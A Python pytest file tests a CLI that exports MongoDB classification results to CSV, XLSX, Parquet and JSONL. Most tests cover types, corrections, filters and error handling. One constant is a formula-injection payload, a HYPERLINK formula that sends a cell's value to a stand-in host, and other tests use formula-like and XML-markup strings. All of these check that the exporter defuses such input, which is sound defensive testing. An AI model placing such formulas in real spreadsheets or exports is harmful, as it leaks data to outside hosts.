"""``cli.py export`` with a real MongoDB; each format is read back with its library."""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from bson import Decimal128, ObjectId

from commands import export as command
from config import load_taxonomy
from exporting import results as reading
from exporting.columns import Table
from exporting.formula_text import restored
from tests.forked_process import Ended, ForkedProcess, run_forked
from tests.in_process import run_cli
from tests.worker.site import ROOT, Site, conversation, open_site, store_raw

if any(importlib.util.find_spec(name) is None for name in ("pyarrow", "openpyxl", "xlsxwriter")):
    pytest.skip("requirements-export.txt is not installed", allow_module_level=True)

import openpyxl
import pyarrow.parquet as pq

from exporting import xlsx_file

Document = dict[str, Any]
Row = dict[str, Any]
SECRET = "canary-4711"
DAY = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)
LABELLED = datetime(2026, 11, 30, 2, 0, 0, 123000, tzinfo=UTC)
TAXONOMY = """
intents: {Complaint: A complaint., Other: Anything else.}
topics: {Shipping: Parcels., Other: Anything else.}
sentiments: [Positive, Neutral, Negative]
fields:
  products:
    multiple: true
    labels: [Parcel, Letter, "=Pallet"]
"""


@pytest.fixture
def place(mongodb_uri: str, db_name: str, tmp_path: Path) -> Iterator[Site]:
    """Return a site without a model server."""
    with open_site(mongodb_uri, db_name, None, tmp_path) as opened:
        yield opened


def result(number: int, confidence: float | None = 0.9, **classification: Any) -> Document:
    """Return a result of this version; its conversation took place *number* days after DAY."""
    metadata: Document = {
        "processed_at": LABELLED,
        "model_used": "llama3.2",
        "model_digest": None,
        "processing_duration_ms": 120,
        "processor_version": "1.0.0",
        "batch_job_id": "job_1",
        "attempts": 1,
        "prompt_tokens": 900,
        "reply_tokens": 40,
        "input_complete": True,
        "turns_used": 2,
        "turns_total": 2,
        "input_sha256": f"sha-{number}",
        "fingerprint": f"fp-{number}",
    }
    if confidence is not None:
        metadata["confidence"] = {"intent": confidence, "topic": 0.99, "sentiment": 0.95}
        metadata["needs_review"] = confidence < 0.5
    at = DAY + timedelta(days=number)
    labels = {"intent": "Complaint", "topic": "Shipping/Delivery", "sentiment": "Negative"}
    return {
        "conversation_number": str(number),
        "source_conversation_id": number,
        "conversation": {
            "started_at": at - timedelta(hours=1),
            "last_message_at": at,
            "turns": 2,
            "channel": "email",
            "metadata": {"priority": "high"},
        },
        "classification": {**labels, "categorization": "A parcel is late.", **classification},
        "processing_metadata": metadata,
        "created_at": LABELLED,
    }


def correction(number: int, to: Any, field: str = "intent", reviewer: str = "anna", **more: Any) -> Document:
    return {
        "source_conversation_id": number,
        "conversation_number": str(number),
        "field": field,
        "from": "Complaint",
        "to": to,
        "reviewer": reviewer,
        "at": LABELLED + timedelta(hours=1),
        "source": "confidence",
        "result_fingerprint": f"fp-{number}",
        **more,
    }


def corrections(site: Site) -> Any:
    return site.database["sentimental_analysis_corrections"]


def export(site: Site, name: str, *flags: str, **settings: str) -> Ended:
    arguments = ["export", "--output", str(site.folder / name), *flags]
    return Ended(*run_cli(arguments, site.environment(**settings), site.folder))


def rows_of(path: Path) -> list[Row]:
    """Return the rows of a file of any format; texts of CSV as they are in it."""
    if path.suffix == ".csv":
        with path.open(encoding="utf-8", newline="") as file:
            return list(csv.DictReader(file))
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    if path.suffix == ".parquet":
        rows: list[Row] = pq.read_table(path).to_pylist()
        return rows
    book = openpyxl.load_workbook(path)
    found: list[Row] = []
    for sheet in book.worksheets:
        names, *values = sheet.iter_rows(values_only=True)
        found += [dict(zip(names, row, strict=True)) for row in values]
    return found


def exported(site: Site, *flags: str, name: str = "out.jsonl", code: int = 0, **settings: str) -> list[Row]:
    ended = export(site, name, *flags, **settings)
    assert ended.code == code, ended.said
    return rows_of(site.folder / name)


def numbers(rows: list[Row]) -> list[str]:
    return [row["conversation_number"] for row in rows]


def by_number(rows: list[Row]) -> dict[str, Row]:
    return {row["conversation_number"]: row for row in rows}


ALL_FORMATS = ["out.csv", "out.xlsx", "out.parquet", "out.jsonl"]


@pytest.mark.parametrize("name", ALL_FORMATS)
def test_each_format_is_read_back_with_types(place: Site, name: str) -> None:
    """Times, numbers and truth values keep their type in every format that has them."""
    place.results.insert_many([result(0), result(1, confidence=None)])
    first, second = exported(place, name=name)
    assert (first["intent"], first["topic"], first["sentiment"]) == ("Complaint", "Shipping/Delivery", "Negative")
    assert (first["categorization"], first["channel"], first["label_source"]) == ("A parcel is late.", "email", "model")
    is_csv = name.endswith("csv")
    assert first["confidence_intent"] == ("0.9" if is_csv else 0.9)
    assert first["turns"] == ("2" if is_csv else 2)
    assert first["input_complete"] == ("true" if is_csv else True)
    assert second["confidence_intent"] == ("" if is_csv else None)
    text = "2026-11-02T09:30:00.000Z"
    expected = {"out.parquet": DAY, "out.xlsx": DAY.replace(tzinfo=None)}.get(name, text)
    assert first["last_message_at"] == expected
    metadata = first["metadata"]
    assert (metadata if name == "out.jsonl" else json.loads(metadata)) == {"priority": "high"}
    assert (place.folder / name).stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("name", ALL_FORMATS)
def test_several_labels_are_a_list_or_joined(place: Site, name: str) -> None:
    taxonomy = place.folder / "taxonomy.yaml"
    taxonomy.write_text(TAXONOMY)
    place.results.insert_many([result(0, products=["Parcel", "Letter"]), result(1, products=[]), result(2)])
    rows = exported(place, name=name, TAXONOMY_FILE=str(taxonomy))
    empty = {"out.csv": "", "out.xlsx": None}
    is_list = name not in empty
    assert [row["products"] for row in rows] == [
        ["Parcel", "Letter"] if is_list else "Parcel; Letter",
        [] if is_list else empty[name],
        None if is_list else empty[name],
    ]


def test_correction_wins_and_names_field_reviewer_time_and_former_label(place: Site) -> None:
    place.results.insert_many([result(number) for number in range(3)])
    corrections(place).insert_many(
        [
            correction(1, "Other", at=LABELLED),
            correction(1, "Cancellation", reviewer="ben"),  # later
            correction(2, "Complaint", result_fingerprint="of an earlier result"),  # accepted
        ]
    )
    rows = by_number(exported(place))
    assert [row["label_source"] for row in rows.values()] == ["model", "human", "human"]
    one = rows["1"]
    assert (one["intent"], one["model_label_intent"], one["reviewer_intent"]) == ("Cancellation", "Complaint", "ben")
    assert one["reviewed_at_intent"] == "2026-11-30T03:00:00.123Z"
    assert (one["topic"], one["reviewer_topic"], one["outdated_fields"]) == ("Shipping/Delivery", None, None)
    assert (rows["2"]["intent"], rows["2"]["outdated_fields"]) == ("Complaint", ["intent"])
    assert (rows["0"]["reviewer_intent"], rows["0"]["model_label_intent"]) == (None, None)


def test_corrections_of_another_program_count_or_are_named_once(place: Site) -> None:
    place.results.insert_many([result(number) for number in range(3)])
    theirs = {"field": "intent", "to": "Other"}
    corrections(place).insert_many([{"source_conversation_id": number, **theirs} for number in range(2)])
    corrections(place).insert_many([{"source_conversation_id": 2, "field": "intent", "by": name} for name in "ab"])
    file = place.folder / "labels.jsonl"
    code, _, err = run_cli(["export", "--output", str(file)], place.environment(), place.folder)
    assert code == 0, err
    rows = [json.loads(line) for line in file.read_text().splitlines()]
    assert [row["intent"] for row in rows] == ["Other", "Other", result(2)["classification"]["intent"]]
    assert err.count("they are not corrections and are ignored") == 1


def test_result_of_a_student_is_marked(place: Site) -> None:
    made = result(0)
    made["processing_metadata"]["label_source"] = "student"
    place.results.insert_one(made)
    (row,) = exported(place)
    assert (row["label_source"], row["other_fields"]) == ("student", None)


def test_label_filter_sees_corrected_labels(place: Site) -> None:
    """A corrected label counts instead of the one that the result has."""
    place.results.insert_many([result(0), result(1), result(2, intent="Other"), result(3, intent="Cancellation")])
    place.results.insert_many([result(4, intent={"unlike": "a label"}), result(5, intent=[["Complaint"]])])
    corrections(place).insert_many([correction(1, "Other"), correction(2, "Complaint")])
    assert numbers(exported(place, "--label", "intent=complaint")) == ["0", "2"]
    assert numbers(exported(place, "--label", "intent=Complaint", "--label", "intent=Cancellation")) == ["0", "2", "3"]
    assert numbers(exported(place, "--label", "intent=Other", "--label", "sentiment=Negative")) == ["1"]
    assert numbers(exported(place, "--label", "intent=Other", "--label", "sentiment=Positive", code=1)) == []


@pytest.mark.parametrize(
    ("flags", "found"),
    [
        (["--since", "2026-11-04"], ["2", "3", "9"]),
        (["--until", "2026-11-03"], ["0", "1"]),  # the whole day
        (["--since", "2026-11-03T10:30+01:00", "--until", "2026-11-04T09:30"], ["1"]),
        (["--since", "2026-11-30", "--until", "2026-11-30"], ["9"]),  # without conversation: when it was made
        (["--model", "llama3.2"], ["0", "1", "3", "9"]),
        (["--confidence-below", "0.5"], ["1"]),
        (["--confidence-above", "0.9"], ["0", "2", "9"]),
        (["--limit", "2"], ["0", "1"]),
        (["--since", "2026-11-03", "--model", "llama3.2", "--limit", "1"], ["1"]),
    ],
)
def test_filters_select_by_time_model_confidence_and_number(place: Site, flags: list[str], found: list[str]) -> None:
    old = result(9)
    del old["conversation"]
    results = [result(0), result(1, 0.2), result(2), result(3, None), old]
    results[2]["processing_metadata"]["model_used"] = "other"
    place.results.insert_many(results)
    assert numbers(exported(place, *flags)) == found


@pytest.mark.parametrize(
    ("flags", "said"),
    [
        (["--label", "mood=Bad"], "--label mood: the fields are intent, topic, sentiment."),
        (["--label", "intent=Complain"], "--label intent=Complain: the labels are Complaint, Technical Support,"),
        (["--label", "intent"], "must be FIELD=LABEL, for example intent=Complaint"),
        (["--since", "yesterday"], "must be a date or a time, for example 2026-11-01"),
        (["--until", "2026-W48"], "must be a date or a time, for example 2026-11-01"),
        (["--until", "9999-12-31"], "must be a date or a time"),
        (["--since", "0001-01-01T00:00+12:00"], "must be a date or a time"),
        (["--since", "2026-11-02", "--until", "2026-11-01"], "--since 2026-11-02 00:00 UTC is not before --until"),
        (["--confidence-below", "2"], "must be a number, 0 to 1"),
        (["--output", "-", "--format", "xlsx"], "--format xlsx cannot go to stdout: name a file with --output."),
        (["--output", "labels"], "labels does not end in a format: add --format csv, for example."),
        (["--output", "missing/out.csv"], "missing/out.csv cannot be written (No such file or directory)"),
    ],
)
def test_wrong_flags_end_before_mongodb_is_asked(place: Site, flags: list[str], said: str) -> None:
    ended = export(place, "out.csv", *flags, MONGODB_URI="mongodb://127.0.0.1:1", MONGODB_MAX_RETRIES="1")
    assert ended.code == 2, ended.said
    assert said in ended.err
    assert not list(place.folder.glob("*out.csv*"))


@pytest.mark.parametrize(("form", "package"), [("xlsx", "xlsxwriter"), ("parquet", "pyarrow")])
def test_missing_package_is_named_with_its_file(
    place: Site, form: str, package: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(importlib.util, "find_spec", lambda name: None)
    ended = export(place, "out.x", "--format", form)
    assert ended.code == 2
    assert f"not installed ({package}): run {sys.executable} -m pip install -r requirements-export.txt" in ended.err


def test_no_matching_result_leaves_a_header_and_exit_code_1(place: Site) -> None:
    ended = export(place, "out.csv")
    assert ended.code == 1
    assert f"export: {place.database.name}.sentimental_analysis has no results." in ended.err
    place.results.insert_one(result(0))
    ended = export(place, "out.csv", "--model", "other")
    assert ended.code == 1
    assert "no result matches the filters" in ended.err
    assert (place.folder / "out.csv").read_text().startswith("result_id,source_conversation_id,")


def test_windows_and_pages_lose_and_repeat_nothing(place: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also across ids of several types, and if no result of a window matches."""
    monkeypatch.setattr(reading, "WINDOW", 7)
    monkeypatch.setattr(reading, "PAGE", 3)
    monkeypatch.setattr(command, "LINE_EVERY_S", 0.0)
    results = [result(number) for number in range(40)]
    for number in range(12):
        results[number]["_id"] = number
        results[number + 12]["_id"] = f"id-{number:02}"
    place.results.insert_many(results)
    assert sorted(numbers(exported(place)), key=int) == [str(number) for number in range(40)]
    place.results.update_many({"source_conversation_id": {"$in": [1, 39]}}, {"$set": {"conversation.turns": 3}})
    assert numbers(exported(place, "--since", "2026-12-11T09:30")) == ["39"]
    ended = export(place, "out.csv")
    assert "export: 40 results written to" in ended.err
    assert "of about 40 results read" in ended.err


def leaves(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for one in value.values():
            yield from leaves(one)
    elif isinstance(value, list):
        for one in value:
            yield from leaves(one)
    elif value is not None:
        yield str(value)


def test_nothing_of_a_result_is_left_out_silently(place: Site) -> None:
    """Fields that this version does not know, and values of another type than their column, are in other_fields."""
    odd = result(1, urgency="very-urgent", intent={"unlike": "any-label"})
    odd["processing_metadata"] |= {"attempts": "three", "weather": "rain-today", "copied_from": ObjectId("0" * 24)}
    odd["processing_metadata"]["confidence"]["urgency"] = 0.123
    odd["conversation"]["turns"] = 2.5
    odd |= {"cost": Decimal128("1.25"), "at": datetime(2020, 1, 2, tzinfo=UTC), "classes": []}
    place.results.insert_many([result(0), odd, {"note": "not-a-result", "classification": "spoilt"}])
    corrections(place).insert_one(correction(1, "calm-now", field="urgency", reviewer="carla"))
    ended = export(place, "out.jsonl")
    assert ended.code == 0
    plain, row, foreign = rows_of(place.folder / "out.jsonl")
    assert plain["other_fields"] is None
    told = row["other_fields"]
    assert told["classification"] == {"intent": {"unlike": "any-label"}, "urgency": "calm-now"}
    assert told["processing_metadata"] == {
        "attempts": "three",
        "weather": "rain-today",
        "confidence": {"urgency": 0.123},
    }
    assert told["conversation"] == {"turns": 2.5}
    assert told["cost"] == {"$numberDecimal": "1.25"}
    assert told["corrections"]["urgency"]["reviewer"] == "carla"
    assert row["copied_from"] == "0" * 24
    assert foreign["other_fields"] == {"note": "not-a-result", "classification": "spoilt"}
    for name in ("classification.urgency (1)", "cost (1)", "processing_metadata.weather"):
        assert name in ended.err or " more." in ended.err


def test_every_value_of_a_result_is_in_its_row(place: Site) -> None:
    made = result(5)
    made["query_id"] = "q-5"
    place.results.insert_one(made)
    (row,) = exported(place)
    written = set(leaves(row))
    times = {"2026-11-07T09:30:00.000Z", "2026-11-07T08:30:00.000Z", "2026-11-30T02:00:00.123Z"}
    assert times <= written
    assert {value for value in leaves(made) if not value.startswith("2026-")} <= written


def test_ids_of_any_type_are_whole_texts(place: Site) -> None:
    key = ObjectId()
    ids = [key, "x" * 300, 7, {"shop": 1, "ticket": "a"}]
    place.results.insert_many([{**result(number), "source_conversation_id": one} for number, one in enumerate(ids)])
    found = [row["source_conversation_id"] for row in exported(place)]
    assert found == [str(key), "x" * 300, "7", '{"shop":1,"ticket":"a"}']


def test_text_is_exported_only_if_asked_for(place: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Neither the source nor the copy in a result is read without --text."""
    monkeypatch.setattr(reading, "TEXT_PAGE", 2)
    results = [{**result(number), "original_conversation": conversation(number, SECRET)} for number in range(5)]
    place.results.insert_many(results)
    place.source.insert_many([conversation(number, SECRET) for number in range(4)])
    ended = export(place, "out.jsonl")
    assert SECRET not in (place.folder / "out.jsonl").read_text()
    assert "5 results with original_conversation: it is not exported; --text adds transcripts." in ended.err
    assert "export: 1 result with original_conversation" in export(place, "out.jsonl", "--limit", "1").err
    row = rows_of(place.folder / "out.jsonl")[0]
    assert "transcript" not in row
    assert row["other_fields"] is None
    ended = export(place, "out.jsonl", "--text")
    assert "with --text the file holds customer text" in ended.err
    assert "1 result without a transcript: no text, or no longer in conversation_set." in ended.err
    texts = [row["transcript"] for row in rows_of(place.folder / "out.jsonl")]
    assert texts[3] == f"Customer: Case 00003: {SECRET}\nAgent: We are sorry!"
    assert texts[4] is None
    assert SECRET not in ended.said


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"ok")'


def test_csv_defuses_formulas_and_they_can_be_restored(place: Site) -> None:
    place.results.insert_many([result(0, categorization=FORMULA, topic="-Other"), result(1, categorization="'=1")])
    first, second = exported(place, name="out.csv")
    assert first["categorization"] == "'" + FORMULA
    assert first["topic"] == "'-Other"
    assert [restored(row["categorization"]) for row in (first, second)] == [FORMULA, "'=1"]


def test_xlsx_formulas_are_texts_with_the_prefix_style(place: Site) -> None:
    """The value is unchanged; Excel shows it as typed after an apostrophe, so that editing does not start it."""
    texts = [FORMULA, "  @SUM(1)", "\t=1", "-5", "#N/A", "A parcel."]
    place.results.insert_many([result(number, categorization=text) for number, text in enumerate(texts)])
    assert export(place, "out.xlsx").code == 0
    sheet = openpyxl.load_workbook(place.folder / "out.xlsx").worksheets[0]
    column = [cell.value for cell in sheet[1]].index("categorization")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == texts
    assert {cell.data_type for cell in cells} == {"s"}
    assert [bool(cell.quotePrefix) for cell in cells] == [True] * 5 + [False]


def test_xlsx_text_that_looks_like_markup_is_a_text(place: Site) -> None:
    """The writer takes a text in <r> for finished XML: a customer could break the file, or put a formula into it."""
    texts = ["<r><t>1</t></r>", "<r></c></r>", "a & b < c"]
    place.results.insert_many([result(number, categorization=text) for number, text in enumerate(texts)])
    assert [row["categorization"] for row in exported(place, name="out.xlsx")] == texts


def test_xlsx_goes_on_in_another_sheet(place: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file.XlsxFile.__init__, "__defaults__", (4,))  # rows of a sheet
    place.results.insert_many([result(number) for number in range(7)])
    assert numbers(exported(place, name="out.xlsx")) == [str(number) for number in range(7)]
    book = openpyxl.load_workbook(place.folder / "out.xlsx")
    assert [(sheet.title, sheet.max_row) for sheet in book.worksheets] == [
        ("results", 4),
        ("results 2", 4),
        ("results 3", 2),
    ]


def test_xlsx_names_what_a_cell_cannot_hold(place: Site) -> None:
    texts = ["x" * 40_000, "bell \x07 here", "\U0001f4e6" * 20_000, "\U0001f4e6" * 16_383]
    place.results.insert_many([result(number, categorization=text) for number, text in enumerate(texts)])
    ended = export(place, "out.xlsx")
    first, second, boxes, fitting = rows_of(place.folder / "out.xlsx")
    assert len(first["categorization"]) == 32_767
    assert first["categorization"].endswith("x [cut]")
    assert second["categorization"] == "bell \ufffd here"
    assert len(boxes["categorization"].encode("utf-16-le")) == 2 * 32_766  # half a box is left out
    assert boxes["categorization"].endswith("\U0001f4e6 [cut]")
    assert fitting["categorization"] == texts[3]
    assert "2 texts cut to 32,767 characters, the limit of a cell of XLSX. The other formats keep them." in ended.err
    assert "1 text with characters that XLSX cannot hold" in ended.err


@pytest.mark.parametrize("name", ALL_FORMATS)
def test_old_file_stays_if_the_export_fails(place: Site, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """A result that is not valid BSON ends the export after its first page."""
    monkeypatch.setattr(reading, "PAGE", 2)
    place.results.insert_many([result(number) for number in range(3)])
    store_raw(place.results, {"_id": ObjectId("f" * 24), "broken": b"123"})
    (place.folder / name).write_text("old")
    ended = export(place, name)
    assert ended.code == 3, ended.said
    assert (place.folder / name).read_text() == "old"
    assert [path.name for path in place.folder.iterdir()] == [name]


@pytest.mark.slow
def test_stdout_gets_utf8_in_any_locale_and_nothing_else(place: Site) -> None:
    place.results.insert_one(result(0, categorization="Größe 50 € 漢字"))
    done = subprocess.run(
        [sys.executable, str(ROOT / "cli.py"), "export", "--output", "-", "--format", "csv"],
        env=place.environment(LC_ALL="C", PYTHONIOENCODING="ascii", PYTHONUTF8="0"),
        cwd=place.folder,
        capture_output=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    (row,) = csv.DictReader(io.StringIO(done.stdout.decode(), newline=""))
    assert row["categorization"] == "Größe 50 € 漢字"
    assert done.stderr.decode().splitlines() == ["export: 1 result written to stdout (1 model)."]


def test_export_ends_if_nobody_reads_stdout(place: Site) -> None:
    place.results.insert_many([result(number) for number in range(400)])
    reader, writer = os.pipe()
    os.close(reader)
    with (place.folder / "stderr").open("wb") as err, open(os.devnull, "rb") as nothing:
        streams = [nothing.fileno(), writer, err.fileno()]
        command_line = [str(ROOT / "cli.py"), "export", "--output", "-", "--format", "jsonl"]
        process = ForkedProcess(
            command_line, place.environment(), place.folder, None, streams=streams, preload=["commands.export"]
        )
    os.close(writer)
    assert process.wait(60) == 1
    assert (place.folder / "stderr").read_text() == "export: the reader of stdout ended before the last result.\n"


@pytest.mark.parametrize("name", ["out.csv", "out.xlsx"])
def test_sigterm_leaves_the_old_file_and_nothing_else(place: Site, name: str) -> None:
    """It comes between two pages."""
    place.results.insert_many([result(number) for number in range(3)])
    (place.folder / name).write_text("old")
    program = (
        "import os, signal, sys, cli\n"
        "from commands import export\nfrom exporting import results\n"
        "results.PAGE, export.LINE_EVERY_S = 1, 0.0\n"
        "export.tell_line = lambda sentence: os.kill(os.getpid(), signal.SIGTERM)\n"
        f"sys.exit(cli.main(['export', '--output', {name!r}]))"
    )
    environment = place.environment(PYTHONPATH=str(ROOT), TMPDIR=str(place.folder))
    ended = run_forked(["-c", program], environment, place.folder, preload=["commands.export", "xlsxwriter"])
    assert (ended.returncode, ended.stderr) == (130, "cli.py export: Interrupted.\n")
    assert [path.name for path in place.folder.iterdir()] == [name]
    assert (place.folder / name).read_text() == "old"


def test_fields_named_like_columns_get_columns_of_their_own(tmp_path: Path) -> None:
    path = tmp_path / "taxonomy.yaml"
    path.write_text("fields: {channel: [A], Model: [B], confidence_channel: [C], label_source: [D]}")
    names = [column.name for column in Table(load_taxonomy(path), with_text=True).columns]
    assert len({name.casefold() for name in names}) == len(names)
    assert {"channel", "channel_label", "Model_label", "label_source_label", "confidence_channel"} <= set(names)
